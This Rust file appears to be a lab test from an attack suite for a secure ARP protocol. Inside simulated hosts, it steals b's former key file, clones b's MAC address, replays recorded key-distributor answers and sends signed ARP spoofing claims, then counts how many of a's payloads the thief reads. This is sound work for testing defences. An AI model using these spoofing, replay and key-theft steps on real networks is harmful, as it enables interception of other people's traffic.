//! Attack 59 d and e: a thief has b's former key, and what the key distributor once said of it. b has been given another key since, or was
//! revoked; then it leaves, and the thief speaks in its place from its hardware address.

use std::path::{Path, PathBuf};
use std::time::Duration;

use wire::EtherType;

use crate::attack::cloning::clone_mac;
use crate::attack::poisoning::Lie;
use crate::attack::scene::{Finding, Scene, count};
use crate::attack::signed::{SIGNED_PROGRAM, signed};
use crate::failure::Failure;
use crate::guard::DISTRIBUTOR;
use crate::net::lan::INTERFACE;
use crate::net::talk::Mailbox;
use crate::net::{Frame, Host, process};

const PORT: u16 = 9059;
/// How often the distributor's former answer is played, and how fast: between any two of the thief's own messages several times.
const ROUNDS: usize = 400;
const PER_SECOND: u32 = 50;
/// The thief's own messages, and the seconds between two: as long as the recording is played, of which a second or more is gone before
/// the first, because its program has to start.
const CLAIMS: u32 = 35;
const PAUSE_S: &str = "0.2";
/// Where an ARP message has its sender's protocol address.
const SENDER_AT: usize = 14 + 14;

/// What became of b's key.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Fate {
    Changed,
    Revoked,
}

/// 59 d: b has another key, which a has seen. The aim is that a takes the former one in its place.
pub fn substituted(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    restored(scene, Fate::Changed)
}

/// 59 e: b was revoked. The aim is that a believes its key again.
pub fn rolled_back(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    restored(scene, Fate::Revoked)
}

/// Plays it, and gives b its place on the site back for those who come after.
fn restored(scene: &mut Scene<'_>, fate: Fate) -> Result<Finding, Failure> {
    let finding = play(scene, fate);
    let b = scene.host("b")?;
    if fate == Fate::Revoked {
        issue_anew(scene, &b)?;
    }
    finding
}

fn play(scene: &mut Scene<'_>, fate: Fate) -> Result<Finding, Failure> {
    let (a, b) = (scene.host("a")?, scene.host("b")?);
    let answers = record_answers(scene, &a, &b)?;
    let former = steal_identity(scene, &b)?;
    match fate {
        Fate::Changed => {
            issue_anew(scene, &b)?;
            restart(scene, &b)?;
            // A key that a has serves until something fails under it, so it has to forget the former one and ask.
            restart(scene, &a)?;
            a.namespace.ip(&format!("neigh flush dev {INTERFACE}"))?;
            scene.lan.acquaint(&a, &b)?;
        }
        Fate::Revoked => {
            scene.site()?.order(&["revoke", "--name", b.name])?;
            // A key that a has is good for ten minutes yet (docs/s-arp.md, section 5); after a start it has none.
            restart(scene, &a)?;
        }
    }
    impersonate(scene, fate, &answers, &former)
}

/// What the distributor says to a about b's key.
fn record_answers(scene: &mut Scene<'_>, a: &Host, b: &Host) -> Result<Vec<Frame>, Failure> {
    let k = scene.host(DISTRIBUTOR)?;
    let spy = scene.spy()?;
    restart(scene, a)?;
    scene.lan.acquaint(a, b)?;
    let mut recorded = spy.stop()?;
    let is_about_b = |frame: &Frame| frame.0.get(SENDER_AT..SENDER_AT + 4) == Some(&b.ip.octets());
    recorded.retain(|frame| frame.is_between(k.mac, a.mac) && frame.is(EtherType::ARP) && is_about_b(frame));
    if recorded.is_empty() {
        return Err(Failure::Unreadable("the distributor said nothing of b that could be recorded".to_owned()));
    }
    Ok(recorded)
}

/// A copy of b's identity as it is now.
fn steal_identity(scene: &Scene<'_>, b: &Host) -> Result<PathBuf, Failure> {
    let (own, copy) = (scene.site()?.identity(b)?, scene.file("former.pem"));
    std::fs::copy(&own, &copy).map_err(Failure::file("copying", &own))?;
    Ok(copy)
}

fn issue_anew(scene: &Scene<'_>, host: &Host) -> Result<(), Failure> {
    scene.site()?.issue_anew(host, &["--ip", &host.ip.to_string()])
}

fn restart(scene: &mut Scene<'_>, host: &Host) -> Result<(), Failure> {
    scene.daemon(host.name).map_or(Ok(()), crate::guard::Daemon::restart)
}

/// b leaves. The thief takes its hardware address, plays the distributor's former answers and says in b's name, under its former key, where
/// b is, while a asks.
fn impersonate(scene: &Scene<'_>, fate: Fate, answers: &[Frame], former: &Path) -> Result<Finding, Failure> {
    let (a, b, m) = (scene.host("a")?, scene.host("b")?, scene.host("m")?);
    let (outbox, token) = (Mailbox::open(&a, PORT)?, scene.token("for b"));
    scene.lan.unplug(&b)?;
    clone_mac(&m, b.mac)?;
    a.namespace.ip(&format!("neigh flush dev {INTERFACE}"))?;
    let claim = Lie {
        ethernet_source: b.mac,
        ethernet_destination: a.mac,
        operation: "is-at",
        sender: (&b, b.mac),
        target: (&a, a.mac),
    };
    let window = scene.open()?;
    outbox.send(&b, PORT, &token);
    let arguments = signed("signed", &claim, CLAIMS, PAUSE_S, &[former.to_string_lossy().into_owned()]);
    let thief = scene.launch_scapy(&m, SIGNED_PROGRAM, &arguments)?;
    scene.replay(&std::iter::repeat_n(answers, ROUNDS).flatten().cloned().collect::<Vec<_>>(), PER_SECOND)?;
    outbox.send(&b, PORT, &token);
    process::pause(Duration::from_millis(300))?;
    drop(thief);
    let record = scene.close(window)?;
    let stolen = count(&record.loot, |frame| frame.contains(&token));
    let claims = |frame: &Frame| frame.is_between(b.mac, a.mac) && frame.claims(b.ip, b.mac);
    let what = if fate == Fate::Changed { "changed" } else { "revoked" };
    Ok(Finding {
        reached: stolen > 0,
        harmless: stolen == 0 && count(&record.inside, claims) == 0,
        // Neither does anything without the other.
        struck: count(&record.wire, |frame| answers.contains(frame)).min(count(&record.wire, claims)),
        said: format!("b's key was {what}; m, who has the former one, reads {stolen} of a's payloads for b"),
        record,
    })
}
